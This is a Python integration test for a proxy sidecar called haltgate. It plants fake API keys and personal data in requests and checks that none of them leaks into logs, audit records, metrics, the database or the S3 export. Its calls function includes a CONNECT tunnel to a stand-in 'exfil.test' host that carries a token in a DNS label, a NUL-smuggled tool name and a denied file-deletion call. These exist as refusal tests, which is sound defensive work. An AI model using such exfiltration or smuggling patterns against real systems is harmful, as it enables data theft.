"""The canary: plant secrets and personal data in the bodies, URLs and headers of allowed
and refused calls through a real ``haltgate sidecar`` process, then grep everything the
product writes for them: audit spool, state directory, logs, the metrics endpoint,
PostgreSQL after ``haltgate audit ship`` and the S3 export (moto server). Nothing may be
found. The upstreams did receive the allowed values: the canary can fail."""

from __future__ import annotations

import asyncio
import gzip
import os
import signal
import subprocess
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp
import boto3
import orjson
import psycopg
import pytest
import yaml

from haltgate.testbed.standins import RECORDED
from tests.audit.conftest import AuditDatabase
from tests.sidecar.cli_process import (
    REPO,
    free_port,
    haltgate,
    spawn_pod_sidecar,
    wait_ready,
)
from tests.sidecar.conftest import Standins, base_policy, merge, serving_standins

AWS = "AKIA2E3MBFQXKZ7VJ4NA"
GITHUB = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
OPENAI = "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z" + "T3BlbkFJ" + "Qr7sT0uV3wX6yZ9aB2cD5eF8"
EMAIL = "canary.person@example.org"
PHONE = "+1 415-555-0132"
CANARIES = {"aws": AWS, "github": GITHUB, "openai": OPENAI, "email": EMAIL, "phone": "415-555-0132"}
"""What must not be found, and (below) the encoded forms it could hide in."""


def forms(value: str) -> list[bytes]:
    out = {value, value.lower(), quote(value, safe=""), quote(value), value.replace("@", "%40")}
    return [f.encode() for f in out]


def find_canaries(blob: bytes) -> list[str]:
    return [name for name, value in CANARIES.items() if any(f in blob for f in forms(value))]


def files_under(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


POLICY_EXTRA: dict[str, Any] = {
    "spec": {
        "audit": {"payload": "redacted"},
        "guardrails": {
            # Allowed calls may carry this AWS key (allowlisted), PII is scanned in the response
            # direction only: neither guardrail redacts the requests, the audit still must.
            "secrets": {"action": "block", "direction": "request", "allowlist": ["^AKIA"]},
            "pii": {"action": "redact", "direction": "response"},
        },
    }
}


def chat(text: str) -> dict[str, Any]:
    return {"model": "m", "max_tokens": 2, "messages": [{"role": "user", "content": text}]}


def rpc(name: str, arguments: Any) -> dict[str, Any]:
    return {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": name, "arguments": arguments},
    }


def nested(depth: int, leaf: Any) -> Any:
    for _ in range(depth):
        leaf = [leaf]
    return leaf


PII = f"mail {EMAIL} or call {PHONE}"


async def calls(base: str) -> dict[str, int]:
    """Every call of the canary; returns status by label."""
    got: dict[str, int] = {}
    cred = {"Authorization": f"Bearer {OPENAI}", "x-api-key": OPENAI}
    async with aiohttp.ClientSession() as s:

        async def go(label: str, method: str, url: str, **kw: Any) -> None:
            async with s.request(method, base + url, **kw) as r:
                await r.read()
                got[label] = r.status

        # Allowed: values in the body, the URL and headers.
        await go(
            "llm",
            "POST",
            f"/llm/v1/chat/completions?user={quote(EMAIL)}&k={AWS}",
            json={**chat(f"use {AWS}; {PII}"), "model": f"m-{AWS}"},
            headers={**cred, "X-Note": PII},
        )
        await go(
            "mcp",
            "POST",
            "/mcp",
            json=rpc("echo", {"text": f"{AWS} {PII}"}),
            headers={"X-Note": f"{EMAIL} {AWS}"},
        )
        await go(
            "http",
            "GET",
            f"/api/echo/{AWS}/{quote(EMAIL)}",
            params={"tel": PHONE, "mail": EMAIL},
            headers={**cred, "X-Note": PII},
        )
        await go(
            "http-response-pii",
            "POST",
            "/api/content",
            params={"type": "text/plain"},
            data=f"the answer names {EMAIL}",
        )
        await go(
            "unreachable", "GET", f"/dead/{AWS}", params={"mail": EMAIL}, headers={"X-Note": PII}
        )
        # Refused by the secrets guardrail: body, path, query, header.
        await go(
            "secret-body",
            "POST",
            "/llm/v1/chat/completions",
            json=chat(f"token {GITHUB} {PII}"),
            headers=cred,
        )
        await go("secret-path", "GET", f"/api/echo/{OPENAI}/{quote(EMAIL)}")
        await go("secret-query", "GET", "/api/echo/x", params={"t": GITHUB, "m": EMAIL})
        await go(
            "secret-header",
            "GET",
            f"/api/echo/{quote(EMAIL)}",
            headers={"X-Note": f"{GITHUB} {PII}"},
        )
        # Refused by the tool rules and the parser.
        await go("tool-denied", "POST", "/mcp", json=rpc("delete_file", {"path": PII}))
        await go("tool-unknown", "POST", "/mcp", json=rpc(f"send_{AWS}", {"to": EMAIL}))
        await go("tool-nul", "POST", "/mcp", json=rpc(f"ec\x00ho_{EMAIL}", {"x": PII}))
        await go(
            "too-deep",
            "POST",
            "/llm/v1/chat/completions",
            data=orjson.dumps({**chat(PII), "x": nested(200, PII)}),
        )
        await go("method-denied", "DELETE", f"/api/items/{OPENAI}", headers=cred)
        # Refused on the way back: the answer cannot be scanned (closed).
        await go(
            "unscannable",
            "POST",
            f"/api/content?note={quote(EMAIL)}",
            params={"type": "image/png"},
            data=f"png {EMAIL}",
        )
    # A tunnel to a host the policy does not name, with a key in a DNS label.
    host, port = base.removeprefix("http://").rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    target = f"{GITHUB}.exfil.test:443"
    writer.write(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    await writer.drain()
    got["connect"] = int((await asyncio.wait_for(reader.readline(), 10)).split()[1])
    writer.close()
    return got


EXPECTED = {
    "llm": 200,
    "mcp": 200,
    "http": 200,
    "http-response-pii": 200,
    "unreachable": 502,
    "secret-body": 403,
    "secret-path": 403,
    "secret-query": 403,
    "secret-header": 403,
    "tool-denied": 200,
    "tool-unknown": 200,
    "tool-nul": 200,
    "too-deep": 400,
    "method-denied": 403,
    "unscannable": 503,
    "connect": 403,
}
"""MCP refusals are JSON-RPC errors in a 200 answer."""


@pytest.fixture
async def upstreams() -> AsyncIterator[Standins]:
    async with serving_standins() as s:
        yield s


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        haltgate(*args), cwd=REPO, capture_output=True, text=True, timeout=180, check=False, env=env
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done


async def test_no_planted_value_is_written_anywhere(
    upstreams: Standins, audit_db: AuditDatabase, s3_env: dict[str, str], tmp_path: Path
) -> None:
    policy = tmp_path / "policy.yaml"
    doc = merge(base_policy(upstreams), POLICY_EXTRA)
    # An upstream nobody listens on: the failure path logs and audits too.
    doc["spec"]["upstreams"].append(
        {"name": "dead", "url": f"http://127.0.0.1:{free_port()}", "kind": "http"}
    )
    policy.write_text(yaml.safe_dump(doc))
    state = tmp_path / "state"
    log = tmp_path / "sidecar.log"
    started = time.time()
    with log.open("wb") as out:
        proc, ports = await spawn_pod_sidecar(
            policy, state, log_level="debug", stdout=out, stderr=subprocess.STDOUT
        )
    try:
        await wait_ready(f"http://127.0.0.1:{ports['admin']}/readyz", proc)
        statuses = await calls(f"http://127.0.0.1:{ports['explicit']}")
        async with (
            aiohttp.ClientSession() as s,
            s.get(f"http://127.0.0.1:{ports['metrics']}/metrics") as r,
        ):
            metrics = await r.read()
    finally:
        proc.send_signal(signal.SIGTERM)
        await asyncio.wait_for(proc.wait(), 30)
    assert statuses == EXPECTED

    # The canary can fail: the allowed calls took the values to the upstreams.
    seen = b"".join(
        orjson.dumps(rq.as_json())
        for app in upstreams.apps.values()
        for rq in app[RECORDED].requests
    )
    # (The GitHub token was only ever in calls the secrets guardrail refused.)
    assert set(find_canaries(seen)) == set(CANARIES) - {"github"}

    # Ship to PostgreSQL, export to S3.
    env = {**os.environ, **s3_env}
    shipped = run(
        "audit",
        "ship",
        "--spool",
        str(state / "audit"),
        "--dsn",
        audit_db.writer,
        "--once",
        env=env,
    )
    bucket = "canary"
    s3 = boto3.client("s3", endpoint_url=s3_env["AWS_ENDPOINT_URL_S3"])
    s3.create_bucket(Bucket=bucket)
    exported = run(
        "audit",
        "export",
        "--dsn",
        audit_db.reader,
        "--to",
        f"s3://{bucket}/x",
        "--since",
        str(started - 60),
        "--until",
        str(time.time() + 60),
        env=env,
    )

    with psycopg.connect(audit_db.admin) as conn:
        rows = conn.execute("SELECT t::text, code FROM haltgate.audit_records t").fetchall()
    # Two records (intent, outcome) for each of the 6 calls decided and forwarded (one
    # upstream unreachable), one for each of the 9 refused before, one for the tunnel.
    assert len(rows) == 2 * 6 + 9 + 1, len(rows)
    database = "\n".join(r[0] for r in rows).encode()
    objects = {
        o["Key"]: s3.get_object(Bucket=bucket, Key=o["Key"])["Body"].read()
        for o in s3.list_objects_v2(Bucket=bucket)["Contents"]
    }
    export = b"".join(gzip.decompress(v) if k.endswith(".gz") else v for k, v in objects.items())
    assert len(export.splitlines()) >= len(rows)

    places: dict[str, bytes] = {f"state/{k}": v for k, v in files_under(state).items()}
    places.update(
        {
            "log": log.read_bytes(),
            "metrics": metrics,
            "postgres": database,
            "s3": export,
            "cli-output": (
                shipped.stdout + shipped.stderr + exported.stdout + exported.stderr
            ).encode(),
        }
    )
    assert any(b"audit" in k.encode() for k in places), sorted(places)
    leaks = {place: found for place, blob in places.items() if (found := find_canaries(blob))}
    assert leaks == {}
    # And the refusals are there, each with its code.
    codes = [r[1] for r in rows]
    for code in (
        "guardrail_secrets",
        "tool_denied",
        "tool_not_allowed",
        "json_too_deep",
        "guardrails_unscannable",
        "connect_denied",
        "upstream_unreachable",
    ):
        assert code in codes, codes
